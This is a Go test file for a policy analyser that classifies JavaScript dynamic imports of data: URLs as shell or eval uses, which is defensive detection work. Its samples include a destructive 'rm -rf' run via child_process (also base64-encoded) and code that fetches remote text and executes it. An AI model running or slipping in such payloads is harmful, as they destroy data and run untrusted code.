package javascript_test

import (
	"testing"

	"github.com/sluice-project/sluice/policy/program/javascript"
	"github.com/sluice-project/sluice/policy/program/library"
)

func TestProgramsInAddresses(t *testing.T) {
	for text, want := range map[string]library.What{
		`import("data:text/javascript,require('child_process').execSync('rm -rf /x')")`:                  library.Shell,
		`import("data:text/javascript,require(%22child_process%22).execSync(%22rm -rf /x%22)")`:          library.Shell,
		`import("data:text/javascript;base64,cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAteCcp")`: library.Shell,
		`fetch("https://a.example").then(r => r.text()).then(t => import("data:text/javascript," + t))`:  library.Eval,
		`import("data:text/javascript;base64," + btoa(await (await fetch("https://a.example")).text()))`: library.Eval,
		`import("DATA:text/javascript," + process.argv[2])`:                                              library.Eval,
		`import("./a.mjs")`: 0,
		`import("data:text/javascript,export default 1")`: 0,
		`import(name)`: 0,
		`fetch("https://a.example").then(r => r.json()).then(j => console.log(j))`: 0,
	} {
		got := library.What(0)
		for _, u := range javascript.Read(text).Uses {
			if u.What == library.Shell || u.What == library.Eval {
				got = u.What
			}
		}
		if got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}
